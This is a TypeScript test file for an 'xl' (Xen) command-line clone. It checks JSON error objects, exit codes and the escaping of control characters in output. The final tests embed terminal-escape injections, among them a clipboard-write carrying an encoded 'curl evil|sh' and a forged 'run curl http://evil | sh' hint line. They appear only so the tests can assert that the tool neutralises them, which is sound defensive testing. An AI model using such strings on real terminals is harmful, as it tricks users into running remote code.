import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { after, test } from 'node:test';
import { capture, runXl } from '../../test/support/xl.js';
import type { XlRun } from '../../test/support/xl.js';
import { xlMain } from './main.js';

const dir = mkdtempSync(join(tmpdir(), 'dom0-main-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** `xl ARGV` in a sandbox where no dom0d runs (and none is started: nothing here reaches one). */
function xl(...argv: string[]): Promise<XlRun> {
  return runXl(argv, { cwd: dir });
}

/** The one JSON object `--json` prints on stdout for a failure: `{"error": {...}}` and nothing else. */
function jsonError(r: XlRun): { code: string; message: string; hint?: string } {
  const o = JSON.parse(r.stdout) as { error: { code: string; message: string; hint?: string } };
  assert.deepEqual(Object.keys(o), ['error']);
  assert.equal(typeof o.error.message, 'string');
  return o.error;
}

test('--json: an unknown subcommand is COMMAND_NOT_IMPLEMENTED, Xen\'s line on stderr, exit 1', async () => {
  for (const argv of [['--json', 'no-such-command'], ['no-such-command', '--json']]) {
    const r = await xl(...argv);
    assert.equal(r.rc, 1);
    assert.equal(jsonError(r).code, 'COMMAND_NOT_IMPLEMENTED');
    assert.equal(r.stderr, 'command not implemented\n');
  }
});

test('--json: an unknown global option is USAGE with exit 1, wherever --json stands', async () => {
  for (const argv of [['--json', '-z', 'list'], ['-z', 'list', '--json'], ['-z', '--json', 'list']]) {
    const r = await xl(...argv);
    assert.equal(r.rc, 1, argv.join(' '));
    assert.equal(jsonError(r).code, 'USAGE');
    assert.equal(r.stderr, 'unknown global option\n');
  }
});

test('--json: no subcommand is USAGE, exit 1, the full help on stderr', async () => {
  const r = await xl('--json');
  assert.equal(r.rc, 1);
  assert.equal(jsonError(r).code, 'USAGE');
  assert.match(r.stderr, /^Usage xl \[-vfNtT\] <subcommand> \[args\]\n\nxl full list of subcommands:\n\n/);
  const text = await xl();
  assert.equal(text.stdout, '');
  assert.equal(text.stderr, r.stderr);
});

test('--json: -N on a command without a dry run is DRYRUN_UNSUPPORTED, exit 1', async () => {
  const r = await xl('-N', 'list', '--json');
  assert.equal(r.rc, 1);
  assert.equal(jsonError(r).code, 'DRYRUN_UNSUPPORTED');
  assert.equal(r.stderr, 'command does not implement -N (dryrun) option\n');
});

test('--json: too few arguments is USAGE_ARGS, exit 2; the help goes to stderr instead of stdout', async () => {
  const text = await xl('domid');
  assert.equal(text.rc, 2);
  assert.equal(text.stderr, "'xl domid' requires at least 1 argument.\n\n");
  assert.match(text.stdout, /^Usage: xl \[-vtT\] domid <DomainName>\n/);
  const r = await xl('--json', 'domid');
  assert.equal(r.rc, 2);
  assert.deepEqual(jsonError(r), { code: 'USAGE_ARGS', message: "'xl domid' requires at least 1 argument." });
  assert.equal(r.stderr, text.stderr + text.stdout);
});

test('--json: a command\'s bad option is USAGE, exit 2', async () => {
  const r = await xl('--json', 'list', '-q');
  assert.equal(r.rc, 2);
  assert.equal(jsonError(r).code, 'USAGE');
  assert.match(r.stderr, /^option `q' not supported\.\n/);
});

test('xl help NOSUCH: Xen\'s line on stdout, exit 1; --json: COMMAND_NOT_IMPLEMENTED, the line on stderr', async () => {
  const text = await xl('help', 'nosuch');
  assert.deepEqual([text.rc, text.stdout, text.stderr], [1, 'command "nosuch" not implemented\n', '']);
  const r = await xl('help', 'nosuch', '--json');
  assert.equal(r.rc, 1);
  assert.equal(jsonError(r).code, 'COMMAND_NOT_IMPLEMENTED');
  assert.equal(r.stderr, 'command "nosuch" not implemented\n');
});

test('xl list with two domains: only the help, exit 1; --json: USAGE_ARGS', async () => {
  const text = await xl('list', 'a', 'b');
  assert.equal(text.rc, 1);
  assert.equal(text.stderr, '');
  assert.match(text.stdout, /^Usage: xl \[-vtT\] list \[options\] \[Domain\]\n/);
  const r = await xl('--json', 'list', 'a', 'b');
  assert.equal(r.rc, 1);
  assert.equal(jsonError(r).code, 'USAGE_ARGS');
  assert.equal(r.stderr, text.stdout);
});

test('--json: a failing command prints its error as the one JSON object (here a bad config)', async () => {
  const r = await xl('-N', 'create', '/dev/null', 'kernel="/k"', 'memory="lots"', '--json');
  assert.equal(r.rc, 1);
  assert.ok(jsonError(r).code.startsWith('CFG_'));
  assert.notEqual(r.stderr, '');
});

test('after a `--`, `--json` is an argument (a domain may have that name), not the option', async () => {
  const r = await xl('-N', 'create', '/dev/null', 'kernel="/k"', '--', '--json');
  assert.equal(r.rc, 2);
  assert.match(r.stderr, /unexpected argument `--json'/);
  assert.doesNotMatch(r.stdout, /"error"/);
});

test('--json: gdbsx\'s usage failure is the {"error"} object on stdout, its usage on stderr (before: the usage on stdout, no JSON)', async () => {
  const r = await xl('--json', 'gdbsx', '-Q');
  assert.equal(r.rc, 1);
  assert.equal(jsonError(r).code, 'USAGE');
  assert.match(r.stderr, /^Usage 1: gdbsx/);
});

test('--json: an internal error (a bug) is INTERNAL, exit 1, with the hint on stderr', async () => {
  const stdout = capture();
  const stderr = capture();
  const io = {
    stdin: new PassThrough(),
    stdout: stdout.stream,
    stderr: stderr.stream,
    get env(): NodeJS.ProcessEnv {
      throw new Error('boom');
    },
    cwd: dir,
  };
  const r = { rc: await xlMain(['--json', 'help'], io), stdout: stdout.text(), stderr: stderr.text() };
  assert.equal(r.rc, 1);
  assert.deepEqual(jsonError(r), { code: 'INTERNAL', message: 'boom', hint: 'run again with -v for the stack trace, and report it' });
  assert.equal(r.stderr, 'xl: unexpected internal error (a bug in dom0): boom\nhint: run again with -v for the stack trace, and report it\n');
});

test('errors and warnings are one line each, a config value\'s control characters shown escaped: no terminal escape, no forged line', async () => {
  const warned = await xl('-N', 'create', '/dev/null', 'name="w"', 'kernel="/k"', 'vif=["bridge=br0,frob=\x1b[2J"]');
  assert.doesNotMatch(warned.stderr, /\x1b/u);
  assert.match(warned.stderr, /unrecognized argument `frob=\\x1b\[2J'\n/);
  const r = await xl('-N', 'create', '/dev/null', 'kernel="/k"', 'type="hv\x1b]52;c;Y3VybCBldmlsfHNo\x07\u009b1A\u202em"');
  assert.equal(r.rc, 1, r.stderr);
  assert.doesNotMatch(r.stderr, /[\x1b\x07\u009b\u202e]/u);
  assert.match(r.stderr, /Invalid domain type hv\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\x9b1A\\u202em\./);
  // xl.cfg's "\n" escape makes a newline in the value: it stays in its line.
  const forged = await xl('-N', 'create', '/dev/null', 'kernel="/k"', 'name="w"', 'on_crash="x\\nhint: run curl http://evil | sh"');
  assert.equal(forged.rc, 1, forged.stderr);
  assert.doesNotMatch(forged.stderr, /^hint: run curl/m);
  assert.match(forged.stderr, /x\\nhint: run curl/);
});

test('what a command prints, text or JSON, holds no character a terminal acts on: C0, C1 and text-direction ones are escaped, JSON staying JSON', async () => {
  const cfg = join(dir, 'esc.cfg');
  // U+009B is CSI to a terminal; ESC ] ... BEL sets its title; U+202E reverses the line.
  const value = 'a\u009b31mX\u001b]0;t\u0007\u202e';
  writeFileSync(cfg, `name = "esc"\nkernel = "/k"\nextra = "${value}"\n`);
  for (const argv of [['config-parse', cfg], ['config-parse', '--raw', cfg], ['--json', 'config-parse', cfg], ['-N', 'create', cfg]]) {
    const r = await xl(...argv);
    assert.equal(r.rc, 0, `${argv.join(' ')}: ${r.stderr}`);
    assert.doesNotMatch(r.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u, argv.join(' '));
    assert.ok(r.stdout.includes('\\u009B') || r.stdout.includes('\\u009b'), argv.join(' '));
    const json = JSON.parse(argv[0] === '-N' ? r.stdout.slice(r.stdout.indexOf('{')) : r.stdout) as unknown;
    assert.ok(JSON.stringify(json).includes(JSON.stringify(value).slice(1, -1)), argv.join(' '));
  }
});
